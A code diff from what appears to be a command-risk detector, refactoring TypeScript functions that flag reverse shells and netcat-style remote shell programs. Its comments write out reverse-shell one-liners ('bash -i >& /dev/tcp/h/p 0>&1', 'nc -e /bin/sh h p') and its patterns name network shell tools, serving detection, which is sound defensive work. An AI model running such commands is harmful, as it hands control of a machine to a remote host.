@@ -36,10 +36,11 @@ export function reverseShell(v: View, socketFds: readonly string[] = []): { leve
     };
   // bash -i >& /dev/tcp/h/p 0>&1, sh -i < /dev/tcp/h/p, exec /bin/sh 0</dev/tcp/h/p, sh <&196 after exec 196<>/dev/tcp/…
   // (`>& /dev/tcp/…` parses as the redirect `>&` and a word: the socket is then an argument)
-  const socket =
-    [...v.cmd.redirects.map((r) => r.target), ...v.a].find((t) => NETWORK_DEVICE.test(t)) ??
-    v.cmd.redirects.map((r) => /^&(\d+)$/.exec(r.target)?.[1]).find((fd) => fd !== undefined && socketFds.includes(fd));
-  if (SHELLS.has(v.name) && socket)
+  const socket = !SHELLS.has(v.name)
+    ? undefined
+    : ([...v.cmd.redirects.map((r) => r.target), ...v.a].find((t) => NETWORK_DEVICE.test(t)) ??
+      v.cmd.redirects.map((r) => /^&(\d+)$/.exec(r.target)?.[1]).find((fd) => fd !== undefined && socketFds.includes(fd)));
+  if (socket)
     return {
       level: "high",
       detail: `${v.name} connects its input or output to a network socket (${/^\d+$/.test(socket) ? `descriptor ${socket}` : socket}): a reverse shell a remote host controls`,
@@ -49,6 +50,7 @@ export function reverseShell(v: View, socketFds: readonly string[] = []): { leve
 }
 
 function remoteShellProgram(v: View): string | null {
+  if (!/^(nc|ncat|netcat|socat)$/.test(v.name) && !isInterpreterName(v.name)) return null;
   // nc -e /bin/sh h p, ncat --sh-exec / --exec, nc -c sh
   if (/^(nc|ncat|netcat)$/.test(v.name)) {
     const k = v.a.findIndex((x) => /^(-e|-c|--exec|--sh-exec|--lua-exec)$/.test(x) || /^-[a-z]*e$/.test(x));
